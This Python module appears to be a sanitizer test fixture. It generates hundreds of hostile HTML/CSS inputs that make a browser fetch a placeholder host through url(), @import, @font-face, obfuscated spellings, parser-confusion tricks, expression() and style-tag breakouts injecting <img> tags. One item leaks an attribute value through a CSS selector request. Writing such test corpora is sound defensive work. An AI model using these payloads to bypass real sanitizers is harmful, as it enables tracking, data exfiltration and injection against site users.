"""Routes to fetching by style."""

from collections.abc import Iterator

from tests.hostile.families.spelling import CSS_WORDS

U = "http://HOST/c"

_NAMED = """
background background-image border-image border-image-source list-style list-style-image content cursor filter
backdrop-filter mask mask-image mask-border -webkit-mask -webkit-mask-image -webkit-mask-box-image
-webkit-mask-box-image-source clip-path shape-outside offset-path fill stroke marker marker-start marker-mid
marker-end -webkit-border-image -webkit-box-reflect behavior -moz-binding src symbols --x font-palette color width
font-family quotes animation transition all
"""
_PROPERTIES = _NAMED.split()

_FUNCTIONS = {
    "url": "url(ADDRESS)",
    "url-quoted": "url('ADDRESS')",
    "url-double": "url(&quot;ADDRESS&quot;)",
    "url-spaced": "url(  \n ADDRESS \t )",
    "url-unclosed": "url(ADDRESS",
    "url-unclosed-quote": "url('ADDRESS",
    "src": "src('ADDRESS')",
    "image": "image('ADDRESS')",
    "image-set": "image-set('ADDRESS' 1x)",
    "image-set-url": "image-set(url(ADDRESS) 1x, url(ADDRESS?2) 2x)",
    "image-set-type": "image-set('ADDRESS' type('image/png'))",
    "webkit-image-set": "-webkit-image-set(url(ADDRESS) 1x)",
    "cross-fade": "cross-fade(url(ADDRESS), url(ADDRESS?2), 50%)",
    "webkit-cross-fade": "-webkit-cross-fade(url(ADDRESS), url(ADDRESS?2), .5)",
    "element": "element(#x), url(ADDRESS)",
    "paint": "paint(x), url(ADDRESS)",
    "gradient-then": "linear-gradient(red,blue), url(ADDRESS)",
    "url-in-gradient": "linear-gradient(url(ADDRESS), red)",
    "url-in-rgb": "rgb(url(ADDRESS))",
    "url-in-calc": "calc(1px + url(ADDRESS))",
    "env": "env(x, url(ADDRESS))",
    "var-default": "var(--none, url(ADDRESS))",
    "attr-url": "attr(title url, url(ADDRESS))",
    "if": "if(media(all): url(ADDRESS))",
    "many": "url(x),url(y), url(ADDRESS) no-repeat",
    "important": "url(ADDRESS)!important",
    "with-colour": "#fff url(ADDRESS) repeat-x 0 0",
    "modifier": "url('ADDRESS' crossorigin(anonymous))",
    "alpha-filter": "progid:DXImageTransform.Microsoft.AlphaImageLoader(src='ADDRESS')",
    "expression": "expression(new Image().src='ADDRESS')",
}

_ADDRESSES = {
    "upper": "HTTP://HOST/c",
    "no-scheme": "//HOST/c",
    "backslashes": r"http:\\5c HOST\5c c",
    "escaped-slash": r"http:\2f\2fHOST/c",
    "escaped-colon": r"http\3a //HOST/c",
    "escaped-letters": r"\68\74\74\70://HOST/c",
    "escaped-line": "ht\\\ntp://HOST/c",
    "https": "https://HOST/c",
    "user": "http://a:b@HOST/c",
    "tab": "ht\ttp://HOST/c",
    "null-escape": r"http://HOST/c\0",
}


def properties() -> Iterator[tuple[str, str]]:
    for name in _PROPERTIES:
        yield name, _styled(f"display:list-item;height:9px;{name}:url({U})")
    for name in ("filter", "clip-path", "mask", "fill", "stroke", "marker-start"):
        yield (
            f"{name}-fragment",
            f"<svg><rect width=9 height=9 style='{name}:url({U}.svg#x)'/></svg>",
        )
        yield f"{name}-attribute", f"<svg><path d='M0 0h9v9' {name}='url({U}.svg#x)'/></svg>"
        yield (
            f"{name}-sheet",
            f"<style>svg *,div{{{name}:url({U}.svg#x)}}</style><div>x</div><svg><rect width=9 height=9 /></svg>",
        )


def functions() -> Iterator[tuple[str, str]]:
    for label, shape in _FUNCTIONS.items():
        value = shape.replace("ADDRESS", U)
        yield f"{label}-inline", f'<div style="background:{value}">x</div>'
        yield f"{label}-image", f'<div style="background-image:{value}">x</div>'
        sheet = value.replace("&quot;", '"')
        yield (
            f"{label}-sheet",
            f"<style>div{{height:9px;background-image:{sheet}}}</style><div>x</div>",
        )
    for label, address in _ADDRESSES.items():
        yield f"address-{label}", _styled(f"background:url({address})")
        yield f"address-{label}-quoted", f"<div style=\"background:url('{address}')\">x</div>"


def spellings() -> Iterator[tuple[str, str]]:
    for label, spell in CSS_WORDS.items():
        yield f"url-{label}", _styled(f"background:{spell('url')}({U})")
        yield f"url-{label}-quoted", f"<div style=\"background:{spell('url')}('{U}')\">x</div>"
        yield f"name-{label}", _styled(f"{spell('background')}:url({U})")
        yield (
            f"both-{label}",
            f"<style>div{{{spell('background')}:{spell('url')}({U})}}</style><div>x</div>",
        )
        yield f"import-{label}", f"<style>@{spell('import')} '{U}';</style>"
        yield (
            f"font-{label}",
            _font(f"@{spell('font-face')}", f"{spell('src')}:{spell('url')}({U})"),
        )
        yield f"set-{label}", _styled(f'background:{spell("image-set")}("{U}" 1x)', quote="'")
    yield "comment-before", _styled(f"background:/**/url({U})")
    yield "comment-name", _styled(f"back/**/ground:url({U});background/**/:url({U})")
    yield "comment-inside", _styled(f"background:u/**/rl({U});background:url(/**/{U})")
    yield "comment-unclosed", _styled(f"color:red;/* ;background:url({U})")
    yield "comment-nested", _styled(f"/*/*/background:url({U})/**/")
    yield "comment-star", _styled(f"*background:url({U});_background:url({U})")
    yield "html-comment", f"<style><!-- div{{background:url({U})}} --></style><div>x</div>"
    yield "semicolon-string", _styled(f'font-family:";background:url({U})"', quote="'")
    yield "string-newline", _styled(f'font-family:"\n;background:url({U});"', quote="'")
    yield "string-open", _styled(f'font-family:"a;background:url({U})', quote="'")
    yield "string-escape", _styled(f'font-family:"a\\"; background:url({U});"', quote="'")
    yield "paren-open", _styled(f"color:rgb(1,2,3;background:url({U})")
    yield "paren-close", _styled(f"color:red);background:url({U})")
    yield "brace", _styled(f"color:red}}*{{background:url({U})}}")
    yield "bracket", _styled(f"color:[;]red;background:url({U})")
    yield "bang", _styled(f"background:url({U}) ! important")
    yield "null", _styled(f"background:u\0rl({U})")
    yield "full-width", _styled(f"background:ｕｒｌ({U})")
    yield "turkish", _styled(f"background:url({U})".replace("i", "İ"))
    yield "entities", f'<div style="background&#58;u&#114;l&#40;{U}&#41;">x</div>'
    yield "vertical-tab", _styled(f"background:\x0burl({U})")
    yield "form-feed", _styled(f"background:\furl({U})")
    yield "nested-rule", _styled(f"color:red;&:hover{{x:y}}background:url({U})")
    yield "smuggled", _styled(f"--a:url({U});background:var(--a)")
    yield (
        "smuggled-sheet",
        f"<style>*{{--a:url({U})}}div{{background:var(--a)}}</style><div>x</div>",
    )
    yield (
        "smuggled-set",
        f"<style>*{{--a:'{U}'}}div{{background:image-set(var(--a) 1x)}}</style><div>x</div>",
    )
    yield "smuggled-fallback", _styled(f"background:var(--a,url({U}))")
    yield (
        "smuggled-property",
        f"<style>@property --a{{syntax:'<image>';inherits:true;initial-value:url({U})}}div{{background:var(--a)}}</style><div>x</div>",
    )
    yield (
        "percent-close",
        f"<style>div{{font-family:'%3c/style%3e';background:url({U})}}</style><div>x</div>",
    )


def sheets() -> Iterator[tuple[str, str]]:
    for label, value in {
        "string": f"'{U}'", "double": f'"{U}"', "url": f"url({U})", "url-quoted": f"url('{U}')", "layer": f"url({U}) layer(a)",
        "supports": f"url({U}) supports(display:block)", "media": f"url({U}) all", "tight": f'"{U}"screen', "open": f"'{U}",
    }.items():  # fmt: skip
        yield f"import-{label}", f"<style>@import {value};</style>"
    yield "import-after-charset", f"<style>@charset 'utf-8';@import url({U});</style>"
    yield "import-after-comment", f"<style>/* */@import url({U});</style>"
    yield "import-no-space", f"<style>@import'{U}'</style>"
    yield "import-after-cdo", f"<style><!--@import url({U});--></style>"
    yield "import-in-media", f"<style>@media all{{@import url({U});}}</style>"
    yield "import-chain", f"<style>@layer a;@import url({U}) layer(a);</style>"
    yield "font-face", _font("@font-face", f"src:url({U})")
    yield "font-face-format", _font("@font-face", f"src:local(none),url({U}) format('woff2')")
    yield (
        "font-face-unclosed",
        f"<style>@font-face{{font-family:f;src:url({U})</style><p style='font-family:f'>x</p>",
    )
    yield "font-feature", f"<style>@font-palette-values --a{{base-palette:url({U})}}</style>"
    yield "namespace", f"<style>@namespace url({U});@namespace a url({U});div{{color:red}}</style>"
    yield "document", f"<style>@document url({U}){{div{{background:url({U})}}}}</style><div>x</div>"
    yield (
        "counter-style",
        f"<style>@counter-style a{{system:cyclic;symbols:url({U})}}ol{{list-style:a}}</style><ol><li>x</ol>",
    )
    yield "page", f"<style>@page{{background:url({U})}}</style>"
    yield (
        "keyframes",
        f"<style>@keyframes a{{from,to{{background-image:url({U})}}}}div{{animation:a 1s infinite}}</style><div>x</div>",
    )
    yield (
        "webkit-keyframes",
        f"<style>@-webkit-keyframes a{{from,to{{background:url({U})}}}}div{{-webkit-animation:a 1s infinite}}</style><div>x</div>",
    )
    yield "media", f"<style>@media screen{{div{{background:url({U})}}}}</style><div>x</div>"
    yield "media-print", f"<style>@media print{{div{{background:url({U})}}}}</style><div>x</div>"
    yield (
        "media-dark",
        f"<style>@media (prefers-color-scheme:light),(prefers-color-scheme:dark){{div{{background:url({U})}}}}</style><div>x</div>",
    )
    yield (
        "media-nested",
        f"<style>@media all{{@media all{{div{{background:url({U})}}}}}}</style><div>x</div>",
    )
    yield (
        "supports",
        f"<style>@supports (display:block){{div{{background:url({U})}}}}</style><div>x</div>",
    )
    yield "layer", f"<style>@layer a{{div{{background:url({U})}}}}</style><div>x</div>"
    yield (
        "container",
        f"<style>body{{container-type:size}}@container (width>0){{div{{background:url({U})}}}}</style><div>x</div>",
    )
    yield "scope", f"<style>@scope (body){{div{{background:url({U})}}}}</style><div>x</div>"
    yield (
        "starting",
        f"<style>@starting-style{{div{{background:url({U})}}}}div{{transition:all 1s;background:red}}</style><div>x</div>",
    )
    yield "nesting", f"<style>body{{div{{background:url({U})}}}}</style><div>x</div>"
    yield "nesting-and", f"<style>div{{color:red;&{{background:url({U})}}}}</style><div>x</div>"
    for selector in ("div", "*", "html", "body", ":root", "#a", ".b", "[title]", "div::before", "div::after", ":is(div)", "div:not(.z)",
                     "div:nth-child(n)", ":where(div)", "body > div", "div:first-line", "::selection", "::marker", "li::marker", ":has(div)"):  # fmt: skip
        yield (
            f"selector-{selector}",
            f"<style>{selector}{{content:'x';background:url({U});display:block}}</style><div id=a class=b title=c>x</div>",
        )
    yield (
        "scrollbar",
        f"<style>::-webkit-scrollbar{{background:url({U})}}div{{overflow:scroll;height:9px}}</style><div>x<br>x</div>",
    )
    yield "hover", f"<style>*:hover{{background:url({U})}}</style><div style='height:300px'>x</div>"
    yield "focus", f"<style>*:focus{{background:url({U})}}</style><div tabindex=0 autofocus>x</div>"
    yield (
        "visited",
        f"<style>a:visited,a:link{{background:url({U})}}</style><a href=http://127.0.0.1/>x</a>",
    )
    yield (
        "exfiltration",
        f"<style>[title^=s]{{background:url({U}?s)}}</style><div title=secret>x</div>",
    )
    yield "in-body", f"<p>x</p><style>p{{background:url({U})}}</style>"
    yield "in-svg", f"<svg><style>*{{background:url({U})}}</style><rect/></svg><div>x</div>"
    yield (
        "in-noscript",
        f"<noscript><style>div{{background:url({U})}}</style></noscript><div>x</div>",
    )
    yield "closed-in-string", f"<style>a{{content:'</style><img src={U}>'}}</style>"
    yield "closed-in-comment", f"<style>/* </style><img src={U}> */</style>"
    yield "closed-in-selector", f"<style>a[title='</style><img src={U}>']{{color:red}}</style>"
    yield "closed-escaped", f"<style>a{{font-family:'\\3c/style\\3e\\3cimg src={U}\\3e'}}</style>"
    yield (
        "closed-in-media",
        f"<style>@media all and (a:'</style><img src={U}>'){{a{{color:red}}}}</style>",
    )
    yield "unclosed", f"<style>div{{background:url({U})}}"
    yield (
        "attribute-type",
        f"<style type=text/css media=all title=x>div{{background:url({U})}}</style><div>x</div>",
    )
    yield (
        "class-name",
        f"<style>.a\\3b {{background:url({U})}} div{{color:red}}}}div{{background:url({U})}}</style><div class='a;'>x</div>",
    )


def _styled(style: str, *, quote: str = '"') -> str:
    return f"<div style={quote}{style}{quote}>x</div>"


def _font(rule: str, source: str) -> str:
    return f"<style>{rule}{{font-family:f;{source}}}div{{font-family:f}}</style><div>x</div>"


FAMILIES = {
    "css-property": properties,
    "css-function": functions,
    "css-spelling": spellings,
    "css-sheet": sheets,
}
